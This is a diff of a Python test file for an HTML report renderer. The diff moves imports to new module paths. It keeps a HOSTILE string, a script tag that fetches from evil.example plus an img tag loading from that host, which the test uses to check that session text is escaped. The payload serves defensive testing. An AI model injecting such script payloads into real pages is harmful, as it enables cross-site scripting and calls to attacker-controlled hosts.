@@ -1,14 +1,14 @@
-"""The HTML report's page (onegc_tui/report.py) without a browser: what it holds, and that text
+"""The HTML report's page (onegc_tui/results/report.py) without a browser: what it holds, and that text
 from a session is never markup (the Chromium rendering is in test_study_exports.py)."""
 
 from __future__ import annotations
 
 import re
 
-from onegc_tui.report import CSP, render_report
+from onegc_tui.results.report import CSP, render_report
+from onegc_tui.results.study_data import load_study
 from onegc_tui.store import Store
-from onegc_tui.study_data import load_study
-from tests.app.fixtures import build_demo_study
+from tests.homes import build_demo_study
 
 HOSTILE = '<script>fetch("http://evil.example/x")</script><img src="http://evil.example/y.png">'
 
@@ -34,8 +34,8 @@ def test_the_page_holds_every_section_escapes_session_text_and_names_nothing_out
 
 
 def test_the_unofficial_test_best_in_the_outcomes_follows_result_jsons_rule(home):
-    from onegc_tui import monitor_data
-    from onegc_tui.monitor_data import unofficial_range
+    from onegc_tui.views import monitor_data
+    from onegc_tui.views.monitor_data import unofficial_range
 
     build_demo_study(home)
     store = Store.open(home)
